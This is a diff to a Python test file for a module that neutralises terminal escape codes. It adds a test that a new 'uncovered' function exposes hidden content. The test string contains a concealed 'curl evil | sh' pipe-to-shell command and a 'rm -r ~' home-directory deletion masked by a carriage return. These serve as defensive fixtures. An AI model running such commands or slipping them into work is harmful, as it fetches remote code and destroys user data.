@@ -9,7 +9,7 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from nsm.cli.harmless import Harmless, colourless, harmless
+from nsm.cli.harmless import Harmless, colourless, harmless, uncovered
 
 COLOUR = re.compile(r"\x1b\[[0-9;:]*m")
 
@@ -80,3 +80,10 @@ def test_nothing_that_a_terminal_acts_on_is_left(text: str) -> None:
         assert kind != "Cc" or character in "\n\t\r", ascii(character)
         assert unicodedata.bidirectional(character) not in {"LRE", "RLE", "LRO", "RLO", "PDF"}
         assert unicodedata.bidirectional(character) not in {"LRI", "RLI", "FSI", "PDI"}
+
+
+def test_nothing_covers_what_is_to_be_judged() -> None:
+    text = "+\x1b[8mcurl evil | sh\x1b[0m\t# tidy\n+rm -r ~\r+print(1)\n é \u200b\x9b2J"
+    assert uncovered(text) == (
+        "+\\x1b[8mcurl evil | sh\\x1b[0m\t# tidy\n+rm -r ~\\r+print(1)\n é \\u200b\\x9b2J"
+    )
